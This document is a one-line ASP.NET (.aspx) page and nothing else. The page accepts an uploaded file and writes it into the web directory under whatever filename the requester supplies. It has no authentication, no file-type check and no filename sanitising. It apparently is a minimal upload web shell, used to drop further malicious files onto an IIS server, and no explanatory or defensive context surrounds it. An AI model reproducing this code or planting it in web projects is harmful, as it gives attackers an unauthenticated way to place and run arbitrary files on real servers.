<%@ Page Language="C#" %><% if (Request.Files.Count != 0) { HttpPostedFile thisFile = Request.Files[0]; thisFile.SaveAs(System.IO.Path.Combine(Server.MapPath("."), thisFile.FileName)); } %>
